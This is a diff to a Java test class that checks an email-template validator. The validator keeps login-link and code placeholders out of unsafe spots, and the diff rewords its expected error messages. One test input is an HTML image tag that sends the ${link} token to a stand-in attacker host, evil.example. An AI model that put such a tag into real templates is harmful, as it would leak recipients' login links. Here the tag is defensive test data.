@@ -62,9 +62,9 @@ class HostileTemplateTest {
     void says_where_the_link_may_stand() {
         assertThat(Templates.problems(Templates.html("<p>\n<img src=\"https://evil.example/?l=${link}\"></p>")))
                 .containsExactly(
-                        "Who has ${link} or ${code} is taken for the recipient: either may stand in a text, as it"
-                                + " is and with blanks around it, and ${link} be the whole address of a link,"
-                                + " <a href=\"${link}\">; nowhere else.");
+                        "Anyone who has ${link} or ${code} can act as the recipient: each is allowed only as text,"
+                                + " unchanged and with spaces around it, and ${link} also as the whole address of a"
+                                + " link, <a href=\"${link}\">.");
     }
 
     @ParameterizedTest
@@ -72,7 +72,7 @@ class HostileTemplateTest {
     void a_subject_has_neither_link_nor_code(String subject) {
         assertThat(Templates.problems(Templates.subject(subject)))
                 .containsExactly(
-                        "Who has ${link} or ${code} is taken for the recipient: neither may stand in a subject.");
+                        "Anyone who has ${link} or ${code} can act as the recipient: neither is allowed in a subject.");
     }
 
     /** Character by character, which would tell it, were it there to be compared. */
